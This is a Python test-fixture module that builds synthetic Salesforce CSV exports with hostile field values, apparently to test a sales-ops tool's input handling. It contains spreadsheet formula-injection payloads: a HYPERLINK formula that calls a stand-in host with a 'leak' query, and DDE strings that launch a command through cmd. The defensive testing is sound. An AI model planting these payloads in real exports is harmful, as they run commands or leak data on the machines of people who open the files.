"""Hostile fixtures generated on the fly: formula and HTML payloads in every text field, every
script, mixed encodings, stray quotes, 15/18-character ids, control characters."""

from __future__ import annotations

import csv
from pathlib import Path

from salesops_models.synthetic.hostile import PAYLOADS

FORMULAS = (
    '=HYPERLINK("http://x.example/?leak","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
)
NAMES = ("王伟", "李娜", "Иван Петров", "Мария Иванова", "Zoë Müller", "José Núñez")


#: Payloads a valid export may carry (control characters are rejects: tested on their own).
TEXT_PAYLOADS = tuple(p for p in PAYLOADS if not any(ord(c) < 32 and c != "\t" for c in p))


def payload(i: int) -> str:
    return TEXT_PAYLOADS[i % len(TEXT_PAYLOADS)].format(i=i)


def write_csv(path: Path, header: list[str], rows: list[list], encoding: str = "utf-8") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", newline="", encoding=encoding) as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows(rows)
    return path


def sf_export(folder: Path, rep_names: list[str], *, deals_per_rep: int = 3) -> Path:
    """A small, valid Salesforce export (User, Account, Opportunity) with the given rep
    names; every deal won in 2026-Q3, accounts and deal names hostile too."""
    users = [
        [f"0055g00000U{i:04d}", name, "", f"Team {payload(i)}", payload(i + 3), "Mid-Market"]
        for i, name in enumerate(rep_names)
    ]
    write_csv(
        folder / "User.csv",
        ["Id", "Name", "ManagerId", "Department", "Division", "Segment__c"],
        users,
    )
    accounts = [[f"0015g00000A{i:04d}", payload(i + 1), "CA"] for i in range(len(rep_names))]
    write_csv(folder / "Account.csv", ["Id", "Name", "BillingState"], accounts)
    opps = []
    n = 0
    for i in range(len(rep_names)):
        for k in range(deals_per_rep):
            n += 1
            opps.append(
                [
                    f"0065g00000D{n:04d}",
                    f"0015g00000A{i:04d}",
                    f"0055g00000U{i:04d}",
                    payload(n + 5),
                    "Closed Won",
                    str(10_000 * (k + 1)),
                    f"2026-0{7 + k}-15",
                    "2026-05-01",
                    "New Business",
                    payload(n + 2),
                ]
            )
    write_csv(
        folder / "Opportunity.csv",
        [
            "Id",
            "AccountId",
            "OwnerId",
            "Name",
            "StageName",
            "Amount",
            "CloseDate",
            "CreatedDate",
            "Type",
            "LeadSource",
        ],
        opps,
    )
    return folder
